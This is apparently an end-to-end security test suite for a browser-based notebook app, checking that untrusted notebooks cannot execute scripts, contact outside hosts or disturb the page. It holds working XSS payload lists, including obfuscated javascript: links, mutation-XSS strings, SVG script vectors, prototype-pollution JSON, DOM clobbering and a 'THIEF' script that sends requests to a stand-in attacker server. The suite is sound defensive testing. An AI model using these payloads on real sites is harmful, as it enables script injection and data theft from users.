/** What a stranger's notebook may try. Each attack is a sentence; what counts is its effect: nothing ran, nothing left, the page answers. */
import { readFile } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, test, type Page } from "@playwright/test";
import type { Cell } from "../../cells/notebook.ts";
import { codeCell, expectSaved, expectState, linkTo, openLinked, outputOf, runAll, runCell } from "./steps.ts";

/** What every payload tries to run. */
const MARK = "try{top.pwned=1}catch{};globalThis.pwned=1";

/** A host that the reader approved nothing of: each request that reaches it is a leak. */
let evil: Server;
let leaks: string[] = [];
const evilAddress = (path = "") => `http://127.0.0.1:${(evil.address() as AddressInfo).port}/${path}`;

test.beforeAll(async () => {
  evil = createServer(({ url = "" }, response) => {
    leaks.push(url);
    response.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/html" }).end("<p>evil</p>");
  });
  await new Promise<void>((resolve) => evil.listen(0, "127.0.0.1", resolve));
});
test.afterAll(() => evil.close());

/** Dialogs, new tabs and downloads, as they happen. */
let effects: string[] = [];
test.beforeEach(({ page, context }) => {
  leaks = [];
  effects = [];
  context.on("page", (other) => void (other !== page && effects.push(`a new tab: ${other.url()}`)));
  page.on("dialog", (dialog) => (effects.push(`a dialog: ${dialog.message()}`), dialog.dismiss()));
  page.on("download", (file) => effects.push(`a download: ${file.suggestedFilename()}`));
});

/** A cell that shows each of these. */
const showing = (type: "html" | "svg", all: readonly string[]) =>
  `for (const text of ${JSON.stringify(all)}) display({ [Symbol.for("Jupyter.display")]: () => ({ "${type === "html" ? "text/html" : "image/svg+xml"}": text }) });`;

interface Attack {
  says: string;
  cells(): (string | Partial<Cell>)[];
}

const HANDLERS = ["<img src=x onerror='*'>", "<svg onload='*'></svg>", "<details open ontoggle='*'>x</details>", "<video><source onerror='*'></video>", "<body onload='*'>", "<input autofocus onfocus='*'>", "<iframe srcdoc=\"<script>*</script>\"></iframe>", "<iframe src='javascript:*'></iframe>", "<object data='javascript:*'></object>", "<embed src='javascript:*'>", "<script>*</script>", "<marquee onstart='*'>x</marquee>", "<style onload='*'></style>", "<div style='animation:a 1s' onanimationstart='*'><style>@keyframes a{}</style></div>"];
const LINKS = ["javascript:*", "JaVaScRiPt:*", "java\tscript:*", " javascript:*", "\u0001javascript:*", "&#106;avascript:*", "&#x6A&#x61;vascript:*", "javascript&colon;*", "vbscript:*", "data:text/html,<script>*</script>", "blob:javascript:*"];
const MUTATIONS = [
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror='*'&gt;\">",
  "<svg></p><style><a id=\"</style><img src=1 onerror='*'>\">",
  "<noscript><p title=\"</noscript><img src=x onerror='*'>\">",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror='*'>",
  "<template><img src=x onerror='*'></template>",
  "<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror='*'>\">",
];
const DRAWINGS = [
  "<svg xmlns='http://www.w3.org/2000/svg'><script>*</script></svg>",
  "<svg xmlns='http://www.w3.org/2000/svg'><script href='data:text/javascript,*'/></svg>",
  "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><img src='x' onerror='*'/></body></foreignObject></svg>",
  "<svg xmlns='http://www.w3.org/2000/svg'><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='*'/>#x\"/></svg>",
  "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><a xlink:href='javascript:*'><text y='20'>press</text></a></svg>",
  "<svg xmlns='http://www.w3.org/2000/svg'><a><animate attributeName='href' values='javascript:*'/><text y='20'>press</text></a></svg>",
  "<svg xmlns='http://www.w3.org/2000/svg'><rect width='9' height='9'><set attributeName='onclick' to='*'/><animate onbegin='*' attributeName='x' dur='1s'/></rect></svg>",
];
const marked = (all: readonly string[]) => all.map((each) => each.replaceAll("*", MARK));
const fetching = () => [`<img src="${evilAddress("img")}">`, `<link rel=stylesheet href="${evilAddress("link")}">`, `<style>@import url(${evilAddress("import")}); p { background: url(${evilAddress("css")}) } @font-face { font-family: f; src: url(${evilAddress("font")}) } p { font-family: f }</style><p>x</p>`, `<meta http-equiv=refresh content="0;url=${evilAddress("refresh")}">`, `<base href="${evilAddress()}"><img src=base>`, `<video src="${evilAddress("video")}" poster="${evilAddress("poster")}"></video>`, `<iframe src="${evilAddress("frame")}"></iframe>`, `<form action="${evilAddress("form")}"><button>go</button></form>`, `<a ping="${evilAddress("ping")}" href="javascript:0">x</a>`, `<svg><image href="${evilAddress("svg")}"/><use href="${evilAddress("use")}#x"/></svg>`];

const attacks: Attack[] = [
  { says: "HTML outputs with handlers, frames and scripts", cells: () => [showing("html", marked([...HANDLERS, ...MUTATIONS]))] },
  { says: "HTML outputs whose links are scripts, however spelled", cells: () => [showing("html", marked(LINKS).map((href) => `<a href="${href}">press</a> <map><area shape=default href="${href}"></map>`))] },
  { says: "SVG outputs with scripts, foreign objects, uses and animations", cells: () => [showing("svg", marked(DRAWINGS)), showing("html", marked(DRAWINGS))] },
  { says: "outputs that fetch from elsewhere", cells: () => [showing("html", fetching()), showing("svg", fetching().map((each) => `<svg xmlns="http://www.w3.org/2000/svg">${each}</svg>`))] },
  { says: "text cells with handlers, scripts and links", cells: () => marked([...HANDLERS, ...MUTATIONS, ...LINKS.map((href) => `[press](${href}) <a href="${href}">press</a> ![x](${href})`), "[x]: javascript:*\n\n[press][x]", "<javascript:*>"]).map((source) => ({ kind: "markdown" as const, source })) },
  { says: "text cells that fetch from elsewhere", cells: () => [{ kind: "markdown", source: fetching().slice(1).join("\n\n") }] },
  { says: "formulas with links, HTML and macros without end", cells: () => [{ kind: "markdown", source: String.raw`$\href{javascript:${MARK}}{press}$ $\htmlData{a=b}{x}$ $\htmlId{root}{x}$ $\htmlStyle{position:fixed;inset:0}{x}$ $\includegraphics{${evilAddress("tex")}}$ $\def\a{\a\a}\a$ $\def\b#1{\b{#1#1}}\b x$ $\rule{1e9em}{1e9em}$ ${"$" + "{".repeat(5_000) + "}".repeat(5_000) + "$"}` }, String.raw`tex${"`"}\href{javascript:${MARK}}{press} \def\a{\a\a}\a${"`"}`] },
  { says: "plots with markup in titles and scripts in links", cells: () => [`Plot.plot({ title: "<img src=x onerror='${MARK}'>", caption: "<script>${MARK}</script>", marks: [Plot.dot([1, 2], { x: (d) => d, href: () => "javascript:${MARK}", title: () => "<img src=x onerror='${MARK}'>" }), Plot.text(["<svg onload='${MARK}'>"])] })`] },
  { says: "errors whose names, messages and stacks are markup", cells: () => [`const text = ${JSON.stringify(marked(HANDLERS).join(""))};\nconst error = new Error(text, { cause: text });\nerror.name = text; error.stack = text;\nPromise.reject(error);\nconsole.error(error);\nthrow error;`] },
  { says: "consoles with styles, ANSI links and markup", cells: () => [`console.log("%c<img src=x onerror='${MARK}'>", "position:fixed;inset:0;background:url(${evilAddress("console")})");\nconsole.log("\\x1b]8;;javascript:${MARK}\\x07press\\x1b]8;;\\x07 \\x1b[2J\\x1b[31m<b>\\x1b]0;title\\x07");\nconsole.table([{ "<img src=x onerror='${MARK}'>": "<svg onload='${MARK}'>" }]);\n({ ["<img src=x onerror='${MARK}'>"]: ["<svg onload='${MARK}'>"] })`] },
  { says: "bundles of scripts, widgets and hostile metadata", cells: () => [`for (const type of ["application/javascript", "text/javascript", "application/vnd.jupyter.widget-view+json", "application/xhtml+xml", "text/xml", "__proto__", "constructor", "<img src=x onerror='${MARK}'>"]) display({ [Symbol.for("Jupyter.display")]: () => ({ [type]: "${MARK}" }) });\ndisplay({ [Symbol.for("Jupyter.display")]: () => ({ "text/html": "<p>ok" }), metadata: JSON.parse('{"__proto__":{"pwned":1},"isolated":false,"constructor":{"prototype":{"pwned":1}}}') });`] },
  { says: "values that pollute prototypes on their way", cells: () => [`display(JSON.parse('{"__proto__":{"pwned":1},"constructor":{"prototype":{"pwned":1}}}'));\ndisplay([JSON.parse('{"__proto__":{"pwned":1}}')]);\nself.postMessage([JSON.parse('{"type":"display_data","run":"x","data":{"__proto__":{"pwned":1}},"metadata":{"__proto__":{"pwned":1}}}')]);\n1`] },
  { says: "forged words of the kernel's own worker", cells: () => [`for (const word of ["ready", "pong", null, 1, {}, { type: "gone" }, [null], [{ type: "status", state: "<b>" }], [{ type: "kernel_info", info: {} }], [{ type: "execute_reply", run: "x" }], { tessera: 1, type: "load", notebook: {} }, [{ type: "save" }], [{ type: "open", url: "${evilAddress("open")}" }], ["x".repeat(1e6)]]) self.postMessage(word);\n"said"`] },
];

for (const { says, cells } of attacks) {
  test(`nothing comes of ${says}`, async ({ page }) => {
    const all = cells();
    await openLinked(page, all);
    const address = page.url();
    for (const [index, cell] of all.entries()) if (typeof cell === "string") await run(page, index + 1);
    await pressEverything(page);
    await expectUntouched(page, address);
  });
}

/** Runs a cell to its end, whatever that is. */
async function run(page: Page, place: number): Promise<void> {
  await runCell(page, place);
  await expect(codeCell(page, place)).toHaveAttribute("data-state", /done|error/, { timeout: 30_000 });
  await expect(outputOf(page, place).locator("[data-output]").first()).toBeAttached();
}

/** Clicks every link and drawing of every output and text, shadow trees included. */
async function pressEverything(page: Page): Promise<void> {
  await page.evaluate(() => {
    const visit = (root: ParentNode) => {
      for (const element of root.querySelectorAll("*")) {
        if (element.shadowRoot) visit(element.shadowRoot);
        // The cells' own buttons have drawings, too.
        if (element.closest("button")) continue;
        if (element.matches("a, area, svg *, math *, [onclick]")) element.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
      }
    };
    for (const place of document.querySelectorAll('[data-output], [data-kind="markdown"]')) visit(place);
  });
}

async function expectUntouched(page: Page, address: string): Promise<void> {
  await page.waitForTimeout(300);
  expect(effects).toEqual([]);
  expect(leaks).toEqual([]);
  expect(page.url()).toBe(address);
  expect(await page.evaluate(() => ("pwned" in globalThis || "pwned" in {} ? "ran" : "untouched"))).toBe("untouched");
  await expect(page.getByRole("button", { name: "Run all" })).toBeEnabled();
}

test("an output cannot cover the page, its buttons stay in reach", async ({ page }) => {
  await openLinked(page, [showing("html", ["<div id=root style='position:fixed;inset:0;z-index:2147483647;background:red'>covered</div><style>:host,html,body,*{position:fixed!important;inset:0!important;z-index:2147483647!important}</style>"]), { kind: "markdown", source: "<div style='position:fixed;inset:0;z-index:2147483647'>covered</div>" }]);
  await run(page, 1);
  const isInReach = (name: string) => page.getByRole("button", { name }).first().evaluate((button) => {
    const { x, y, width, height } = button.getBoundingClientRect();
    return button.contains(document.elementFromPoint(x + width / 2, y + height / 2));
  });
  expect(await isInReach("Run all")).toBe(true);
  expect(await isInReach("Share")).toBe(true);
});

test("outputs with the page's own ids, names and commands change nothing", async ({ page }) => {
  const clobber = ["root", "crypto", "document", "location", "getElementById", "body", "head", "documentElement", "attributes", "__proto__", "cookie"].map((name) => `<a id="${name}"></a><img name="${name}" alt=x><form name="${name}"><input name=attributes></form>`).join("");
  await openLinked(page, [showing("html", [clobber]), { kind: "markdown", source: `${clobber}<button data-command="run-all" data-action="run">press</button><a data-command="run-all" href="#x">press</a>` }, "console.log('ran')"]);
  await run(page, 1);
  await pressEverything(page);
  await expectState(page, 3, "idle");
  expect(await page.evaluate(() => [document.body.localName, typeof document.getElementById, typeof location.href, document.head.localName])).toEqual(["body", "function", "string", "head"]);
  await runAll(page);
  await expect(outputOf(page, 3)).toContainText("ran");
});

const THIEF = (evilUrl: string) => `<p id=done>trying</p><script>
  const tries = [
    () => { top.pwned = 1 }, () => { parent.document.title = "x" }, () => { top.location = "${evilUrl}top" }, () => open("${evilUrl}open"), () => alert(1), () => confirm(1), () => prompt(1), () => print(),
    () => { const a = document.createElement("a"); a.href = "data:text/plain,x"; a.download = "x.txt"; a.click() },
    () => { const a = document.createElement("a"); a.href = "${evilUrl}blank"; a.target = "_blank"; a.click() },
    () => { const a = document.createElement("a"); a.href = "${evilUrl}topped"; a.target = "_top"; a.click() },
    () => { const f = document.createElement("form"); f.action = "${evilUrl}form"; document.body.append(f); f.submit() },
    () => fetch("${evilUrl}fetch"), () => navigator.sendBeacon("${evilUrl}beacon"), () => new WebSocket("${evilUrl}socket".replace("http", "ws")), () => { new Image().src = "${evilUrl}image" }, () => import("${evilUrl}module"),
    () => { const f = document.createElement("iframe"); f.src = "${evilUrl}frame"; document.body.append(f) },
    () => localStorage.length, () => indexedDB.open("x"), () => caches.keys(), () => navigator.serviceWorker.register("x"), () => document.documentElement.requestFullscreen(), () => navigator.clipboard.readText(),
    ...[{ tessera: 1, type: "load", notebook: { cells: [] } }, { tessera: 1, type: "run" }, "tessera-kernel-hello", "tessera-kernel-port", { type: "batch", events: [] }, { type: "gone", reason: "forged" }, { type: "boxed_ready" }, { type: "boxed_height", height: "x" }, { type: "boxed_height", height: 1e9 }, { type: "boxed_show", html: "x" }, JSON.parse('{"__proto__":{"pwned":1}}')].flatMap((word) => [() => parent.postMessage(word, "*"), () => top.postMessage(word, "*")]),
    () => { for (let i = 0; i < parent.length; i++) parent[i].postMessage("tessera-kernel-port", "*", [new MessageChannel().port1]) },
  ];
  for (const attempt of tries) try { Promise.resolve(attempt()).catch(() => {}) } catch {}
  document.getElementById("done").textContent = "tried";
</script>`;

test("a box's scripts move, open, download, prompt, send and forge nothing", async ({ page }) => {
  await openLinked(page, [showing("html", [THIEF(evilAddress())]), "console.log('still here')"]);
  const address = page.url();
  await run(page, 1);
  await page.getByRole("button", { name: "Run its scripts in a box" }).click();
  await expect(page.frameLocator("iframe.output-box").getByText("tried")).toBeVisible();
  await expectUntouched(page, address);
  await expect(page.getByRole("article")).toHaveCount(2);
  await expectState(page, 2, "idle");
  await run(page, 2);
  await expect(outputOf(page, 2)).toContainText("still here");
});

test("a box that navigates itself gets nowhere", async ({ page }) => {
  await openLinked(page, [showing("html", [`<script>location.href = "${evilAddress("self")}"</script>`, `<script>document.write('<meta http-equiv=refresh content="0;url=${evilAddress("meta")}">')</script>`])]);
  const address = page.url();
  await run(page, 1);
  const buttons = page.getByRole("button", { name: "Run its scripts in a box" });
  await buttons.first().click();
  await buttons.click();
  await page.waitForTimeout(1_000);
  await expectUntouched(page, address);
});

test("a kernel frame that is opened by itself or by another site answers nobody", async ({ page, baseURL }) => {
  const { port } = new URL(baseURL!);
  const frame = `http://stranger.localhost:${port}/kernel/frame/frame.html`;
  const workers: string[] = [];
  page.on("worker", (worker) => workers.push(worker.url()));
  await page.goto(frame);
  await page.goto(evilAddress("host"));
  const answers = await page.evaluate(async (address) => {
    const heard: unknown[] = [];
    const element = document.createElement("iframe");
    element.src = address;
    const loaded = new Promise((resolve) => element.addEventListener("load", resolve));
    document.body.append(element);
    await loaded;
    for (const word of ["tessera-kernel-port", "tessera-kernel-port"]) {
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = ({ data }) => heard.push(data);
      element.contentWindow!.postMessage(word, "*", [port2]);
      port1.postMessage({ type: "ping" });
      port1.postMessage({ type: "fetch", url: "https://example.com" });
    }
    await new Promise((resolve) => setTimeout(resolve, 1_000));
    return heard;
  }, frame);
  expect(answers).toEqual([]);
  expect(workers).toEqual([]);
});

test("what a link says reaches no server, neither by address nor by referrer", async ({ page }) => {
  const said: string[] = [];
  page.on("request", (request) => void request.allHeaders().then((headers) => said.push(request.url(), headers["referer"] ?? ""), () => said.push(request.url())));
  const link = await linkTo(["'a secret'"]);
  await page.goto(link);
  await expect(page.getByRole("article")).toHaveCount(1);
  await run(page, 1);
  const sent = said.filter((text) => !text.startsWith("blob:") && new URL(text || "http://none").hash === "");
  expect(sent.join("\n")).not.toContain(link.slice("/#nb=".length, 40));
  expect(sent.filter((text) => text.includes("/kernel/frame/frame.html")).every((text) => !text.includes("nb="))).toBe(true);
});

test("titles and names with markup and reversed text stay text", async ({ page }) => {
  const title = "\u202Egpj.exe<img src=x onerror=globalThis.pwned=1>";
  await page.goto(await linkTo([{ source: "1", metadata: { tags: [title, "__proto__"] } }], title));
  await expect(page.getByRole("article")).toHaveCount(1);
  await run(page, 1);
  await page.getByRole("button", { name: "Save a copy" }).click();
  await expectSaved(page);
  await page.goto("/");
  await expect(page.getByRole("link", { name: /gpj\.exe<img/ }).first()).toBeVisible();
  expect(await page.evaluate(() => "pwned" in globalThis)).toBe(false);
});

test("an exported page runs no script, whatever its notebook held", async ({ page, context }) => {
  await openLinked(page, [showing("html", marked([...HANDLERS, ...MUTATIONS])), showing("svg", marked(DRAWINGS)), { kind: "markdown", source: marked([...HANDLERS, ...LINKS.map((href) => `[press](${href})`)]).join("\n\n") }, `console.log("<img src=x onerror='${MARK}'>\\x1b]8;;javascript:${MARK}\\x07press"); throw new Error("<img src=x onerror='${MARK}'>")`]);
  for (const place of [1, 2, 4]) await run(page, place);
  await page.getByRole("button", { name: "Export" }).click();
  const download = page.waitForEvent("download");
  await page.getByRole("menuitem", { name: /html/i }).click();
  const path = await (await download).path();
  const exported = await context.newPage();
  const text = await readFile(path, "utf8");
  // On a page without a policy of its own: what the file says is all that protects it.
  await exported.route("http://exported.test/", (route) => route.fulfill({ contentType: "text/html", body: text }));
  await exported.goto("http://exported.test/");
  await expect(exported.locator("body")).toContainText("press");
  await exported.evaluate(() => document.querySelectorAll("a").forEach((link) => link.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }))));
  await exported.waitForTimeout(300);
  expect(await exported.evaluate(() => "pwned" in globalThis)).toBe(false);
  expect(exported.url()).toBe("http://exported.test/");
  expect(text).not.toMatch(/<script|(href|src)="?javascript:/i);
});

test("a file of 100,000 cells, and one that pollutes prototypes, do no harm", async ({ page }) => {
  await page.goto("/");
  const file = (cells: string) => Buffer.from(`{"nbformat":4,"nbformat_minor":5,"metadata":{"__proto__":{"pwned":1},"title":"Large"},"cells":[${cells}]}`);
  const cell = (id: number) => `{"cell_type":"code","id":"c${id}","source":"1","metadata":{"__proto__":{"pwned":1}},"outputs":[],"execution_count":null}`;
  const choose = async (buffer: Buffer, name: string) => {
    const chooser = page.waitForEvent("filechooser");
    await page.getByRole("button", { name: "Import" }).first().click();
    await (await chooser).setFiles({ name, mimeType: "application/json", buffer });
  };
  await choose(file(cell(1)), "proto.ipynb");
  await expect(page.getByRole("article")).toHaveCount(1);
  expect(await page.evaluate(() => "pwned" in {})).toBe(false);
  await page.goto("/");
  await choose(file(Array.from({ length: 100_000 }, (_, id) => cell(id)).join(",")), "large.ipynb");
  await expect(page.getByText(/too many cells/i).first()).toBeVisible();
});
